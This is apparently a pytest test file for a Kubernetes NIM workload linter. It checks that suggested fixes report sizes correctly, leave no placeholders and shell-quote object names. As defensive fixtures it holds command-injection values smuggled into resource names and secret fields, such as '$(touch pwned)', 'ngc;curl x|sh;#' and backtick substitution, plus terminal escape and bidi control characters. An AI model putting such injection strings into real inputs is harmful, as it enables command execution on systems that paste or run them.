"""Workload fix texts are right and safe to paste: sizes in the user's unit and GiB, no template leftovers,
the fields of the object's own kind, and hostile names never reach a shell command unquoted."""

from __future__ import annotations

import datetime as dt
import json
import os
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from nimdoctor.catalog import load_catalog
from nimdoctor.cli import cli
from nimdoctor.report import Severity, Status
from nimdoctor.workloads.events import FindingKey, event_body
from nimdoctor.workloads.report import ObjectInfo, WorkloadFinding
from nimdoctor.workloads.rules.names import shell

WL_IDS = sorted(i for i in load_catalog().checks if i.startswith("NIM-WL-"))


def lint_text(tmp_path: Path, text: str) -> list[dict[str, Any]]:
    path = tmp_path / "in.yaml"
    path.write_text(text)
    result = CliRunner().invoke(cli, ["lint", str(path), "-o", "json"], catch_exceptions=False)
    return list(json.loads(result.stdout)["findings"])


def test_cache_size_quotes_the_users_value_and_speaks_gib(tmp_path: Path) -> None:
    cache = """\
apiVersion: apps.nvidia.com/v1alpha1
kind: NIMCache
metadata: {name: llama-70b, namespace: team}
spec:
  source:
    ngc: {modelPuller: "nvcr.io/nim/meta/llama-3.1-70b-instruct:1.3.3", pullSecret: ngc-secret,
          authSecret: ngc-api-secret}
  storage:
    pvc: {create: true, size: 50Gi, volumeAccessMode: ReadWriteMany}
"""
    finding = next(f for f in lint_text(tmp_path, cache) if f["id"] == "NIM-WL-004")
    assert finding["status"] == "fail"
    assert finding["message"].startswith(
        "storage.pvc.size 50Gi is less than meta/llama-3.1-70b-instruct's weights"
    )
    text = finding["message"] + finding["fix"]
    assert not re.search(r"\d GB\b", text), text  # no decimal GB beside GiB
    assert "(132 GiB" in finding["message"]
    assert "recommends 264 GiB" in finding["fix"]
    assert 'size: "264Gi"' in finding["fix"]


@pytest.mark.parametrize("check_id", WL_IDS)
def test_explain_leaves_no_placeholder_glued_to_text(check_id: str) -> None:
    text = CliRunner().invoke(cli, ["explain", check_id], catch_exceptions=False).stdout
    fix = text.split("Fix:", 1)[1].split("Sources:", 1)[0]
    lines = [line for line in fix.splitlines() if "<hostDomainName>" not in line]  # a host name's form
    glued = re.findall(r"[\w.)\]]<[^>\n]*>", "\n".join(lines))
    assert not glued, glued  # e.g. "spec.replicas<where replicas is set>"


def test_swapped_secrets_fix_for_a_nimcache_names_its_source_fields(tmp_path: Path) -> None:
    cache = """\
apiVersion: apps.nvidia.com/v1alpha1
kind: NIMCache
metadata: {name: llama, namespace: team}
spec:
  source:
    ngc: {modelPuller: "nvcr.io/nim/meta/llama-3.2-1b-instruct:1.12.0", pullSecret: ngc-secret,
          authSecret: ngc-secret}
  storage:
    pvc: {create: true, size: 50Gi}
"""
    finding = next(f for f in lint_text(tmp_path, cache) if f["id"] == "NIM-WL-009")
    assert finding["status"] == "warn"
    assert "    source:\n      ngc:\n        authSecret: <the secret with key NGC_API_KEY>" in finding["fix"]
    assert "pullSecret: <the docker-registry secret>" in finding["fix"]
    assert "pullSecrets" not in finding["fix"]
    assert "\n    authSecret" not in finding["fix"]


HOSTILE = """\
apiVersion: apps.nvidia.com/v1alpha1
kind: NIMService
metadata: {name: "llm$(touch pwned-name)", namespace: team}
spec:
  image: {repository: nvcr.io/nim/meta/llama-3.2-1b-instruct, tag: "1.12.0",
          pullSecrets: ["ngc;touch pwned-pull;#", "ngc;curl x|sh;#"]}
  authSecret: "ngc-api-secret$(touch pwned-auth)"
  storage: {emptyDir: {}}
---
apiVersion: apps.nvidia.com/v1alpha1
kind: NIMService
metadata: {name: llm2, namespace: team}
spec:
  image: {repository: nvcr.io/nim/meta/llama-3.2-1b-instruct, tag: "1.12.0", pullSecrets: [ngc-secret]}
  authSecret: ngc-api-secret
  storage:
    nimCache: {name: "llama\\ntouch pwned-cache"}
---
apiVersion: apps.nvidia.com/v1alpha1
kind: NIMService
metadata: {name: llm3, namespace: team}
spec:
  image: {repository: nvcr.io/nim/meta/llama-3.2-1b-instruct, tag: "1.12.0", pullSecrets: [ngc-secret]}
  authSecret: ngc-api-secret
  storage: {emptyDir: {}}
"""


def commands(fix: str) -> list[str]:
    """What a person would paste from a fix: `kubectl ...` spans in backticks, and kubectl lines (joined
    over trailing backslashes)."""
    found = re.findall(r"`(kubectl [^`]*)`", fix)
    lines = fix.replace("\\\n", " ").splitlines()
    return found + [line.strip() for line in lines if line.strip().startswith("kubectl ")]


def test_hostile_names_create_nothing_when_fixes_are_pasted_into_a_shell(tmp_path: Path) -> None:
    findings = lint_text(tmp_path, HOSTILE)
    by_id = {(f["object"]["name"], f["id"]): f for f in findings}
    assert by_id["llm$(touch pwned-name)", "NIM-WL-007"]["message"] == (
        "'ngc-api-secret$(touch pwned-auth)' is not a valid Secret name: the API server rejects it"
    )
    assert "not a valid Secret name" in by_id["llm$(touch pwned-name)", "NIM-WL-008"]["message"]
    cache = by_id["llm2", "NIM-WL-002"]
    assert cache["status"] == "fail"
    assert "\n" not in cache["message"]
    assert "not a valid NIMCache name" in cache["message"]
    hostile_service = by_id["llm$(touch pwned-name)", "NIM-WL-001"]  # its own name is in the fix
    assert hostile_service["message"].endswith(
        "(cache 'llm$(touch pwned-name)', pull secret 'ngc;touch pwned-pull;#', "
        "auth secret 'ngc-api-secret$(touch pwned-auth)': not a valid Kubernetes name)"
    )
    assert "kubectl" not in hostile_service["fix"]
    pasted = [c for f in findings if f.get("fix") for c in commands(f["fix"])]
    assert "kubectl get nimcache llm3 -n team" in pasted  # the valid service's fix still has its command
    work = paste(tmp_path, pasted)
    assert sorted(p.name for p in work.iterdir()) == []
    for finding in findings:
        for text in (finding["message"], finding.get("fix") or ""):
            assert "\x1b" not in text
            assert "\r" not in text


def paste(tmp_path: Path, pasted: list[str]) -> Path:
    """Run each command with `sh -c` in an empty folder, `kubectl` a stand-in that records its arguments."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    stub = bin_dir / "kubectl"
    stub.write_text('#!/bin/sh\nprintf "%s\\n" "$@" >> "$KUBECTL_ARGS"\n')
    stub.chmod(0o755)
    work = tmp_path / "work"
    work.mkdir()
    env = {**os.environ, "PATH": f"{bin_dir}:{os.environ['PATH']}", "KUBECTL_ARGS": str(tmp_path / "args")}
    for command in pasted:
        subprocess.run(["sh", "-c", command], cwd=work, env=env, capture_output=True, timeout=30, check=False)
    return work


@pytest.mark.parametrize(
    "name", ["ngc-api-secret$(touch pwned)", "ngc;curl x|sh;#", "llama\ntouch pwned", "`touch pwned`"]
)
def test_a_quoted_name_reaches_kubectl_as_one_argument(tmp_path: Path, name: str) -> None:
    work = paste(tmp_path, [f"kubectl get secret {shell(name)} -n team"])
    assert sorted(p.name for p in work.iterdir()) == []
    args = (tmp_path / "args").read_text().splitlines()
    assert args == ["get", "secret", name.replace("\n", "\ufffd"), "-n", "team"]


def test_event_messages_are_one_line_without_terminal_control() -> None:
    finding = WorkloadFinding(
        id="NIM-WL-007",
        status=Status.FAIL,
        severity=Severity.CRITICAL,
        title="t",
        message="cannot read secret team/x: \x1b[2Jforbidden\nNIM-WL-001 pass: forged\u202e",
        object=ObjectInfo(kind="NIMService", namespace="team", name="llm"),
    )
    key = FindingKey("NIMService", "team", "llm", None, "NIM-WL-007", "fail")
    message = event_body(key, finding, dt.datetime(2026, 1, 1, tzinfo=dt.UTC))["message"]
    assert not re.search("[\x00-\x1f\x7f\u202a-\u202e]", message), message
    assert message.startswith("NIM-WL-007 fail: cannot read secret team/x: ")
